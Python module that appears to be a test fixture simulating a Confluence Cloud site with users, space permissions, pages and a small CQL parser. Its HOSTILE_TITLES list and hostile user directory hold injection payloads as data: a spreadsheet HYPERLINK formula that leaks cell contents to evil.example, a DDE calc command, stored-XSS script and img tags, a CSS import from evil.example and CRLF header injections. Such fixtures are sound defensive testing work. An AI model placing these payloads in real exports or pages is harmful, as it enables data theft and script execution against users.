"""One simulated Confluence Cloud site: its users, spaces, pages and permissions.

Everything an app can read here is chosen to be awkward for whoever displays or exports it
afterwards: titles and values that start with ``=``, ``+``, ``-`` or ``@`` (spreadsheet
formulas), carry CR/LF (header and log-line injection) or HTML and script, and an account id
or two of the same kind (they end up in the audit log as the acting identity).

Permissions are per space and per user, the way Confluence decides what a user (the app's
own user included) may do once the app's scopes allowed the call at all: ``read``,
``write``, ``delete``. The HR space is open to its admin only, the app user included out.
"""

from __future__ import annotations

import itertools
import random
import re
import threading
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

READ, WRITE, DELETE = "read", "write", "delete"

#: Titles meant to break naive CSV exports, HTML views and line-oriented logs.
HOSTILE_TITLES = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Quarterly report")',
    "+SUM(1;2) budget",
    "-2+3 roadmap",
    "@import url(https://evil.example/x.css)",
    "Line one\r\nInjected-Header: yes",
    "<script>alert('stored xss')</script>",
    '<img src=x onerror="alert(1)">Team photo',
    "\tTabbed =cmd|' /C calc'!A0",
)

PLAIN_TITLES = (
    "Onboarding checklist", "Release notes 4.2", "Incident review: login outage",
    "Architecture decision record 17", "Meeting notes 2026-03-02", "Holiday calendar",
    "Customer interview synthesis", "API deprecation plan", "Runbook: database failover",
    "Design system tokens", "Quarterly OKRs", "Security champions programme",
)


#: The rest of a demo site's team beyond Alice, Bob and Carol: (display name, write or read).
STAFF = (
    ("Dana Okafor", WRITE), ("Erik Lindqvist", WRITE), ("Fatima Haddad", READ), ("Grace Liu", WRITE),
    ("Hiro Tanaka", READ), ("Ines Moreau", WRITE), ("Jonas Weber", READ),
)


class HostError(Exception):
    """A REST error the simulated product answers with (status and Confluence-style message)."""

    def __init__(self, status: int, message: str, *, headers: tuple[tuple[str, str], ...] = ()):
        super().__init__(message)
        self.status = status
        self.message = message
        self.headers = headers  # e.g. Retry-After on a 429


@dataclass
class User:
    account_id: str
    display_name: str
    email: str
    #: space key -> permissions held there; "*" stands for every space not listed.
    permissions: dict[str, set[str]] = field(default_factory=dict)
    is_app: bool = False

    def can(self, space: Space, permission: str) -> bool:
        held = self.permissions.get(space.key, self.permissions.get("*", set()))
        return permission in held

    def as_json(self) -> dict:
        return {
            "type": "app" if self.is_app else "known",
            "accountId": self.account_id,
            "accountType": "app" if self.is_app else "atlassian",
            "publicName": self.display_name,
            "displayName": self.display_name,
            "email": "" if self.is_app else self.email,
        }


@dataclass
class Space:
    key: str
    name: str

    def as_json(self) -> dict:
        links = {"webui": f"/spaces/{self.key}"}
        return {"key": self.key, "name": self.name, "type": "global", "_links": links}


@dataclass
class Page:
    id: str
    space_key: str
    title: str
    body: str
    creator: str
    version: int = 1
    created: datetime = field(default_factory=lambda: datetime.now(UTC))

    def as_json(self, site: Site) -> dict:
        return {
            "id": self.id,
            "type": "page",
            "status": "current",
            "title": self.title,
            "space": site.spaces[self.space_key].as_json(),
            "version": {"number": self.version, "by": {"accountId": self.creator}},
            "body": {"storage": {"value": self.body, "representation": "storage"}},
            "_links": {"webui": f"/spaces/{self.space_key}/pages/{self.id}"},
        }


class Site:
    """The content and people of one site, guarded by one lock (the host serves threads)."""

    def __init__(self, name: str, *, seed: int = 0, hostile: bool = False, plain: bool = False) -> None:
        """``hostile`` fills the directory with hostile people and names; ``plain`` (a site that
        is not hostile, in a demo) keeps hostile titles out of its content and gives it a
        fuller staff, as a real team's site has."""
        self.name = name
        self._lock = threading.Lock()
        self._ids = itertools.count(65_537 + 1000 * (seed % 97))
        rng = random.Random(f"{seed}:{name}")  # reproducible fixtures, not secrets
        self.app_user = User(
            account_id=f"557058:{uuid.UUID(int=rng.getrandbits(128))}",
            display_name="Connect Audit Example (app)", email="", is_app=True,
            permissions={"DEV": {READ, WRITE}, "MKT": {READ}},
        )
        self.users: dict[str, User] = {}
        for user in self._people(rng, hostile, staff=plain and not hostile):
            self.users[user.account_id] = user
        self.users[self.app_user.account_id] = self.app_user
        admin = next(iter(self.users))
        #: Who administers the site (the author of its audit log's records).
        self.admin_name = self.users[admin].display_name
        self.spaces = {
            "DEV": Space("DEV", "Engineering"),
            "MKT": Space("MKT", "Marketing <b>& Sales</b>" if hostile else "Marketing"),
            "HR": Space("HR", "People (restricted)"),
        }
        self.pages: dict[str, Page] = {}
        start = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
        titles = list(PLAIN_TITLES) + ([] if plain and not hostile else list(HOSTILE_TITLES))
        rng.shuffle(titles)
        for i, title in enumerate(titles):
            space = ("DEV", "MKT", "HR")[i % 3]
            self._add(space, title, f"<p>{title}</p>", admin, created=start + timedelta(hours=7 * i))

    @staticmethod
    def _people(rng: random.Random, hostile: bool, *, staff: bool = False) -> list[User]:
        def account() -> str:
            return f"{rng.getrandbits(96):024x}"

        everything = {READ, WRITE, DELETE}
        people = [
            User(account(), "Alice Admin", "alice@example.test", {"*": everything}),
            User(account(), "Bob Builder", "bob@example.test", {"DEV": {READ, WRITE}, "MKT": {READ}}),
            User(account(), "Carol Reader", "carol@example.test", {"DEV": {READ}, "MKT": {READ}}),
        ]
        if hostile:
            # Account ids are opaque strings to the app; a hostile directory can make them anything.
            people.append(User('=HYPERLINK("https://evil.example","x")', "Mallory <script>alert(1)</script>",
                               "mallory@evil.example", {"DEV": {READ}}))
            people.append(User("-1+1|cmd", "Eve\r\nX-Injected: 1", "eve@evil.example", {"*": {READ}}))
        if staff:
            writers, readers = {"DEV": {READ, WRITE}, "MKT": {READ, WRITE}}, {"DEV": {READ}, "MKT": {READ}}
            for name, rights in STAFF:
                login = name.split()[0].lower()
                people.append(User(account(), name, f"{login}@example.test",
                                   {k: set(v) for k, v in (writers if rights == WRITE else readers).items()}))
        return people

    def _add(self, space: str, title: str, body: str, creator: str, *,
             created: datetime | None = None) -> Page:
        page = Page(id=str(next(self._ids)), space_key=space, title=title, body=body, creator=creator)
        if created is not None:
            page.created = created
        self.pages[page.id] = page
        return page

    # ------------------------------------------------------------------ lookups

    def human_users(self) -> list[User]:
        return [u for u in self.users.values() if not u.is_app]

    def user(self, account_id: str) -> User | None:
        return self.users.get(account_id)

    def _space(self, key: str, user: User, permission: str = READ) -> Space:
        space = self.spaces.get(key)
        if space is None:
            raise HostError(404, f"No space with key : {key}")
        if not user.can(space, permission):
            raise HostError(403, f"User not permitted to {permission} in space : {key}")
        return space

    def _page(self, page_id: str, user: User, permission: str = READ) -> Page:
        page = self.pages.get(page_id)
        if page is None:
            raise HostError(404, f"No content found with id : {page_id}")
        space = self.spaces[page.space_key]
        if not user.can(space, permission):
            raise HostError(403, f"User not permitted to {permission} content with id : {page_id}")
        return page

    # ------------------------------------------------------------------ REST operations

    def list_spaces(self, user: User) -> list[Space]:
        return [s for s in self.spaces.values() if user.can(s, READ)]

    def get_space(self, key: str, user: User) -> Space:
        return self._space(key, user)

    def list_pages(self, user: User, *, space_key: str | None = None, title: str | None = None,
                   start: int = 0, limit: int = 25) -> list[Page]:
        if space_key:
            self._space(space_key, user)
        pages = [p for p in self.pages.values()
                 if user.can(self.spaces[p.space_key], READ)
                 and (space_key is None or p.space_key == space_key)
                 and (title is None or p.title == title)]
        return pages[start : start + limit]

    def get_page(self, page_id: str, user: User) -> Page:
        return self._page(page_id, user)

    def create_page(self, user: User, *, space_key: str, title: str, body: str) -> Page:
        self._space(space_key, user, WRITE)
        with self._lock:
            if any(p.title == title and p.space_key == space_key for p in self.pages.values()):
                raise HostError(400, f"A page with this title already exists: {title}")
            return self._add(space_key, title, body, user.account_id)

    def update_page(self, page_id: str, user: User, *, title: str, body: str, version: int) -> Page:
        page = self._page(page_id, user, WRITE)
        with self._lock:
            if version != page.version + 1:
                raise HostError(409, f"Version must be incremented on update (current: {page.version})")
            page.title, page.body, page.version = title, body, version
        return page

    def delete_page(self, page_id: str, user: User) -> None:
        self._page(page_id, user, DELETE)
        with self._lock:
            self.pages.pop(page_id, None)

    def restrict(self, space_key: str, *, keep: tuple[str, ...] = ()) -> None:
        """Restrict a space to the account ids in ``keep``: everyone else (the app's user too)
        loses every permission there, as when a space admin locks a space down."""
        with self._lock:
            for user in self.users.values():
                if user.account_id not in keep:
                    user.permissions[space_key] = set()

    def search(self, user: User, cql: str, *, limit: int = 25) -> list[Page]:
        predicate = parse_cql(cql)
        hits = [p for p in self.pages.values() if user.can(self.spaces[p.space_key], READ) and predicate(p)]
        return hits[:limit]


# ---------------------------------------------------------------------- CQL (a subset)

_CLAUSE = re.compile(
    r"""\s*(?P<field>type|space|title|text|creator)\s*
        (?:(?P<op>=|!=|~)\s*(?:"(?P<q>(?:[^"\\]|\\.)*)"|(?P<bare>[^\s()"]+))
          |in\s*\((?P<list>[^)]*)\))\s*""",
    re.IGNORECASE | re.VERBOSE,
)

_UNESCAPE = re.compile(r"\\(.)")
_AND = re.compile(r"(?<=\s)AND\s+", re.IGNORECASE)


def parse_cql(cql: str):
    """Compile ``field op value [AND ...]`` (fields type, space, title, text, creator; ops
    ``=``, ``!=``, ``~``, ``in (...)``) into a predicate; a malformed query is a 400 that
    echoes the query, as Confluence's own parser does. Clauses are read one after the
    other, so that an ``AND`` inside a quoted string is text, not a separator."""
    if not cql.strip():
        raise HostError(400, "CQL query is required")
    checks, pos = [], 0
    while True:
        m = _CLAUSE.match(cql, pos)
        if m is None:
            raise HostError(400, f"Could not parse cql : {cql}")
        checks.append(_check(m))
        if m.end() == len(cql):
            return lambda page: all(check(page) for check in checks)
        joint = _AND.match(cql, m.end())
        if joint is None:
            raise HostError(400, f"Could not parse cql : {cql}")
        pos = joint.end()


def _check(m: re.Match):
    name = m.group("field").lower()
    if m.group("list") is not None:
        wanted = {v.strip().strip('"') for v in m.group("list").split(",")}
        return lambda page: _field(page, name) in wanted
    # A quoted string escapes " and \ with a backslash, as Confluence's CQL does.
    value = _UNESCAPE.sub(r"\1", m.group("q")) if m.group("q") is not None else m.group("bare")
    op = m.group("op")
    if op == "~":
        needle = value.lower()
        return lambda page: needle in _field(page, name).lower()
    if op == "!=":
        return lambda page: _field(page, name) != value
    return lambda page: _field(page, name) == value


def _field(page: Page, name: str) -> str:
    return {"type": "page", "space": page.space_key, "title": page.title, "text": page.body,
            "creator": page.creator}[name]
